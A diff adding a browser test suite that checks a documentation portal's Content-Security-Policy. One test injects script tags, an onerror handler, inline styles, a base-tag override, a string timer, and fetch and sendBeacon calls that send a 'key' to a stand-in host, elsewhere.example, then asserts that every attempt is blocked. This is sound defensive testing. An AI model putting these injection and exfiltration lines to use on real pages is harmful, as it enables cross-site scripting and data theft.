@@ -1,0 +1,91 @@
+import {readdir, readFile} from 'node:fs/promises';
+import path from 'node:path';
+import {expectHeaders, expectTwins} from '../answers';
+import {Console} from '../pages/Console';
+import {expect, ROOT, test} from '../test';
+import {watch} from '../traffic';
+
+const BUILD = path.join(ROOT, 'build');
+
+test('every answer has the headers; what never changes may be kept, the rest is asked for again', async ({request, served}) => {
+  await expectHeaders(request, served.url);
+  await expectTwins(request, served.url);
+});
+
+/** Tries what a hostile text would try, were it ever to become part of a page; notes what has worked and what was refused. */
+function attack(): void {
+  const seen = {kinds: [] as string[], done: [] as string[]};
+  const did = (what: string): unknown => seen.done.push(what);
+  Object.assign(window, {seen, did});
+  addEventListener('securitypolicyviolation', ({effectiveDirective}) => seen.kinds.push(effectiveDirective));
+  const add = <K extends keyof HTMLElementTagNameMap>(name: K, fields: Partial<HTMLElementTagNameMap[K]>): HTMLElementTagNameMap[K] =>
+    document.body.appendChild(Object.assign(document.createElement(name), fields));
+  // What is evaluated for a test may do anything; from a timer on the page's own rules hold.
+  setTimeout(() => {
+    add('script', {textContent: "did('script')"});
+    const markup = add('div', {innerHTML: `<img src="data:," onerror="did('handler')"><p style="color: rgb(1, 2, 3)">Text</p>`});
+    if (getComputedStyle(markup.querySelector('p') ?? markup).color === 'rgb(1, 2, 3)') did('style');
+    add('style', {textContent: 'p {color: red}'});
+    add('script', {src: 'https://elsewhere.example/x.js', onload: () => did('remote script')});
+    add('iframe', {src: 'https://elsewhere.example/'});
+    add('base', {href: 'https://elsewhere.example/'});
+    if (document.baseURI.includes('elsewhere')) did('base');
+    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- it has to be refused
+    setTimeout("did('text of a timer')");
+    void fetch('https://elsewhere.example/key').then(() => did('fetch'));
+    navigator.sendBeacon('https://elsewhere.example/beacon', 'key');
+  });
+}
+
+test('what a hostile text might do is refused by the policy', async ({page, portal, violations}) => {
+  await portal.open('docs/intro');
+  const seen = watch(page);
+  await page.evaluate(attack);
+  const getKinds = (): Promise<string[]> =>
+    page.evaluate(() => [...new Set((window as unknown as {seen: {kinds: string[]}}).seen.kinds)].sort());
+  await expect
+    .poll(getKinds)
+    .toEqual([
+      'base-uri',
+      'connect-src',
+      'frame-src',
+      'script-src',
+      'script-src-attr',
+      'script-src-elem',
+      'style-src-attr',
+      'style-src-elem',
+    ]);
+  expect(await page.evaluate(() => (window as unknown as {seen: {done: string[]}}).seen.done)).toEqual([]);
+  const asked = seen.requests.filter((request) => request.url().includes('elsewhere'));
+  expect(await Promise.all(asked.map((request) => request.response()))).toEqual(asked.map(() => null));
+  violations.length = 0;
+});
+
+test('the editor of JSON has its styles under the policy', async ({page}) => {
+  const call = new Console(page);
+  await call.start('indices-controller-create-index');
+  await call.action('JSON').click();
+  await expect(call.console.locator('.cm-editor')).toHaveCSS('display', 'flex');
+  await expect(call.console.locator('.cm-scroller')).toHaveCSS('overflow', 'auto');
+  await expect(page.locator('style')).toHaveCount(0);
+});
+
+test('files of the build for other hosts have the same policy', async ({request, served}) => {
+  const names = await readdir(path.join(BUILD, '.deploy'));
+  expect(names.sort()).toEqual([
+    'Caddyfile',
+    '_headers',
+    '_redirects',
+    'apache.conf',
+    'nginx.conf',
+    'portal.conf',
+    'robots.txt',
+    'site.json',
+    'vercel.json',
+  ]);
+  const {headers} = JSON.parse(await readFile(path.join(BUILD, '.deploy/site.json'), 'utf8')) as {headers: Record<string, string>};
+  const policy = headers['Content-Security-Policy'] ?? '';
+  const {allowLocal} = await import('@lectern/docusaurus/hosting');
+  expect((await request.get(served.url)).headers()['content-security-policy']).toBe(allowLocal(policy));
+  expect(policy).not.toContain('localhost');
+});
